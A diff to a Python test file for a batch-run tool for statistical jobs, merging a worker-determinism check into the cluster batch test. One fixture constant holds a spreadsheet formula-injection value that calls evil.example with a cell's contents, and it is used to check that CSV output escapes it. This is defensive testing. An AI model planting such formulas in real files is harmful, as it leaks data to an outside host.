@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
 import pandas as pd
@@ -34,7 +35,7 @@ def test_sweeps_expand_and_single_runs_refuse_them(small_csv: Path, tmp_path: Pa
 
 
 @pytest.mark.slow
-def test_batch_on_a_local_cluster_isolates_failures(small_csv: Path, tmp_path: Path):
+def test_batch_on_a_local_cluster_isolates_failures_and_matches_one_worker(small_csv: Path, tmp_path: Path):
     good = _write(tmp_path, "good", small_params(small_csv, name="good"))
     bad_tree = small_params(small_csv, name="bad")
     bad_tree["data"]["outcome"] = {"column": "no_such_column", "type": "continuous"}
@@ -53,6 +54,14 @@ def test_batch_on_a_local_cluster_isolates_failures(small_csv: Path, tmp_path: P
     assert written.shape[0] == 3
     assert list(written["name"]) == ["good", "bad", "'" + HOSTILE_NAME]  # a spreadsheet shows it as text, never runs it
     assert written.loc[0, "effect"] == pytest.approx(summary.loc[0, "effect"])  # numbers stay numbers, negative ones too
+    # The same run on one worker gives the same results.json (seeded; nothing depends on the worker).
+    run_batch([good], out_dir=tmp_path / "one_worker", workers=1, progress=False)
+    texts = []
+    for out in (tmp_path / "runs", tmp_path / "one_worker"):
+        results = json.loads((out / "good" / "results.json").read_text())
+        results["provenance"].pop("generated_at")
+        texts.append(json.dumps(results, sort_keys=True))
+    assert texts[0] == texts[1]
 
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"open")'
@@ -81,21 +90,6 @@ def test_a_failed_run_records_whether_it_was_a_user_mistake(small_csv: Path, tmp
     tree["estimation"]["sead"] = 3
     record = run_one(RunSpec(str(_write(tmp_path, "typo", tree)), {}, "typo"), str(tmp_path / "runs"))
     assert record["status"] == "failed" and record["user_error"] is True and "sead" in record["reason"]
-
-
-@pytest.mark.slow
-def test_results_identical_with_one_or_two_workers(small_csv: Path, tmp_path: Path):
-    import json
-
-    first = _write(tmp_path, "one", small_params(small_csv, name="same"))
-    texts = []
-    for workers in (1, 2):
-        out = tmp_path / f"runs{workers}"
-        run_batch([first], out_dir=out, workers=workers, progress=False)
-        results = json.loads((out / "same" / "results.json").read_text())
-        results["provenance"].pop("generated_at")
-        texts.append(json.dumps(results, sort_keys=True))
-    assert texts[0] == texts[1]
 
 
 def test_the_batch_index_links_succeeded_runs_states_each_ci_level_and_escapes_reasons():
